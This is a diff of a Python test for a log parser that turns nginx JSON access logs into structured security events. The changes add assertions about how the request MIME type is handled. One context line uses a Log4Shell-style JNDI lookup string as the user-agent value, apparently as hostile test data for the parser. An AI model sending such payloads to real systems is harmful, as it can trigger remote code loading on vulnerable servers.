@@ -114,7 +114,11 @@ def test_json_log_with_json_escapes_and_empty_fields() -> None:
     assert event["url"]["domain"] == "shop.acme.test"
     assert event["user_agent"]["original"] == "${jndi:ldap://x/a}"
     assert "user" not in event and "referrer" not in event["http"]["request"]
+    assert "mime_type" not in event["http"]["request"]  # the format above does not log it
     assert event["soc"]["parser"] == "nginx.json"
+    record |= {"request_method": "POST", "content_type": "application/octet-stream"}
+    posted = run("nginx-json", json.dumps(record))
+    assert posted["http"]["request"] == {"method": "POST", "mime_type": "application/octet-stream"}
 
 
 def test_json_400_uses_the_raw_request() -> None:
